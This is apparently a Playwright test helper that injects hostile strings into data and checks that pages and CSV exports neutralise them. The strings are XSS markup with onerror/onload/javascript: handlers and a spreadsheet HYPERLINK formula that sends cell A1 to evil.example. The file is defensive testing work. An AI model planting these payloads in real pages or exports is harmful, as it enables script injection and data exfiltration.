// Text that would run if any page took it for markup, a link or a formula, and how to see that it did not.
import { expect } from "@playwright/test";

export const MARKUP =
  '<img src=x onerror="window.__ran=1"><svg onload="window.__ran=1"></svg><script>window.__ran=1</script>' +
  "\" onfocus=\"window.__ran=1\" autofocus x=' javascript:window.__ran=1 [x](javascript:window.__ran=1)";
export const FORMULA = '=HYPERLINK("https://evil.example/?"&A1)';

// Every free text of some data made hostile; ids, dates and numbers stay, so that it can still be read.
export function spoilt(data) {
  if (Array.isArray(data)) return data.map(spoilt);
  if (data && typeof data === "object") return Object.fromEntries(Object.entries(data).map(([key, value]) => [key, spoilt(value)]));
  return typeof data === "string" && / /.test(data) ? `${FORMULA} ${MARKUP} ${data}` : data;
}

// Nothing ran, and nothing on the page could: no handler, no link that is a script, no element that came as text.
export async function expectHarmless(page) {
  const found = await page.evaluate(() => {
    const bad = [];
    if (window.__ran) bad.push("it ran");
    for (const element of document.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        if (name.startsWith("on")) bad.push(`${element.tagName} ${name}`);
        const leads = ["href", "src", "action", "formaction", "xlink:href"].includes(name);
        if (leads && /^\s*(javascript|data:text\/html|vbscript):?/i.test(value)) bad.push(`${element.tagName} ${name}=${value}`);
      }
    }
    if (document.querySelector('img[src="x"]')) bad.push("the image is an element");
    return bad;
  });
  expect(found).toEqual([]);
}

// The rows of a CSV file, whatever stands in its quotes.
export function rows(text) {
  const clean = text.replace(/^\ufeff/, "");
  const delimiter = clean.split(/\r?\n/)[0].includes(";") ? ";" : ",";
  const table = [[""]];
  let quoted = false;
  for (let at = 0; at < clean.length; at += 1) {
    const letter = clean[at];
    const row = table.at(-1);
    if (quoted) {
      if (letter === '"' && clean[at + 1] === '"') row[row.length - 1] += clean[(at += 1)];
      else if (letter === '"') quoted = false;
      else row[row.length - 1] += letter;
    } else if (letter === '"') quoted = true;
    else if (letter === delimiter) row.push("");
    else if (letter === "\n") table.push([""]);
    else if (letter !== "\r") row[row.length - 1] += letter;
  }
  return table;
}

// No cell of a file for spreadsheets begins as a formula; numbers may be negative.
export function expectNoFormula(text) {
  const bad = rows(text).flat().filter((cell) => /^[=+@\t\r]|^-(?![\d.,]+$)/.test(cell));
  expect(bad).toEqual([]);
}
